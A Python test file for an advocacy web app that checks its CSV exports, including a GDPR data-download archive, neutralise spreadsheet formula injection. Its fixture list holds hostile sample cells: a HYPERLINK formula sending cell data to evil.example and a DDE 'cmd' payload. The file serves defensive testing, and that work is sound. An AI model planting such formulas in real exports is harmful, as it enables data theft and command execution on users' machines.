"""CSV exports are safe from spreadsheet formulas: text an attacker controls (a campaign name, an
idea title, an audit field) that starts with = + - @ | %, a tab, a carriage return or blanks before
a formula comes out inert, through every export — all of which go through ``advocacy.core.csv``."""
from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal

from hypothesis import given, settings
from hypothesis import strategies as st

from advocacy.core import csv as safe_csv

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", " =1+1", "\t plain after a tab", "\rplain after a CR", "%0A=1", "|calc")
DANGEROUS = "=+-@|%"


def _cells(body: str) -> list[str]:
    assert body.startswith(safe_csv.BOM), "Excel needs the BOM to read UTF-8"
    return [cell for row in csv.reader(io.StringIO(body[1:], newline="")) for cell in row]


def _inert(cell: str) -> bool:
    """Nothing a spreadsheet could start reading as a formula, after blanks or not."""
    if cell.startswith("'"):
        return True
    if cell[:1] in ("\t", "\r"):
        return False
    stripped = cell.lstrip()
    # digits, separators and a sign only: a number in some locale, never a formula
    return not stripped or stripped[0] not in DANGEROUS or re.fullmatch(r"-?[0-9,.]+", cell) is not None


def _unquoted(cell: str) -> str:
    """The text before quoting (defusedcsv also escapes | in a quoted cell)."""
    return cell[1:].replace("\\|", "|") if cell.startswith("'") else cell


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(value=st.one_of(st.text(max_size=30), st.sampled_from(FORMULAS), st.integers(),
                       st.floats(allow_nan=False, allow_infinity=False)))
def test_every_cell_the_writer_writes_is_inert_and_plain_text_is_kept(value):
    body = safe_csv.table(["value"], [[value]])
    rows = list(csv.reader(io.StringIO(body[1:], newline="")))
    cell = rows[1][0] if len(rows) > 1 and rows[1] else ""
    if isinstance(value, (int, float)):
        assert cell == str(value)  # numbers stay numbers, negative ones too
        return
    assert _inert(cell), repr(cell)
    if value and value[0] not in DANGEROUS + "\t\r" and not value[0].isspace():
        assert cell == value  # ordinary text is not touched


def test_the_writer_quotes_each_listed_start_and_keeps_numbers():
    cells = _cells(safe_csv.table(["a"], [[f] for f in FORMULAS] + [[-3.5], [Decimal("-2")], ["Équipe"]]))
    assert cells[0] == "a"
    for formula, cell in zip(FORMULAS, cells[1:]):
        assert cell.startswith("'"), (formula, cell)
    assert cells[-3:] == ["-3.5", "-2", "Équipe"]


def test_kpi_export_neutralises_a_formula_in_a_campaign_name(client, make_person, login, make_campaign,
                                                              make_charter_in_force, app):
    from advocacy.extensions import db

    make_charter_in_force()
    marketer = make_person(roles=("marketer", "hr"))
    campaigns = []
    for formula in FORMULAS:
        campaign = make_campaign()
        campaign.name = formula
        campaigns.append(campaign)
    db.session.flush()
    login(client, marketer)
    checked = 0
    for campaign in campaigns:
        response = client.get(f"/kpi/export.csv?view=campaigns&campaign={campaign.id}")
        assert response.status_code == 200, response.status_code
        cells = _cells(response.get_data(as_text=True))
        assert any(campaign.name in _unquoted(cell) for cell in cells), "the campaign name is not in the export"
        bad = [cell for cell in cells if not _inert(cell)]
        assert not bad, bad
        checked += 1
    assert checked == len(FORMULAS)


def test_gdpr_export_neutralises_formulas_in_every_csv_of_the_archive(app, make_member):
    """Idea titles and bodies (campaigns/ideas.csv) and audit fields (audit/entries.csv) an employee
    wrote come out inert in the 'download my data' archive."""
    from advocacy.campaigns.gamification_models import Idea
    from advocacy.consent import gdpr
    from advocacy.core.audit import record
    from advocacy.extensions import db

    person = make_member()
    for formula in FORMULAS:
        db.session.add(Idea(author_id=person.id, title=formula, body=formula, credit_name=formula))
        record("test.formula", actor=person, object_type="note", object_id=formula)
    db.session.commit()
    request = gdpr.start(person, gdpr.EXPORT)
    db.session.commit()
    assert gdpr.run_request(request.id) == "done"
    archive = zipfile.ZipFile(io.BytesIO(gdpr.export_path(request).read_bytes()))
    names = [name for name in archive.namelist() if name.endswith(".csv")]
    assert {"campaigns/ideas.csv", "audit/entries.csv", "consents/events.csv"} <= set(names)
    seen = set()
    for name in names:
        cells = _cells(archive.read(name).decode("utf-8"))
        bad = [cell for cell in cells if not _inert(cell)]
        assert not bad, (name, bad)
        seen.update(_unquoted(cell) for cell in cells)
    assert set(FORMULAS) <= seen, "every formula reached a CSV of the archive (quoted)"
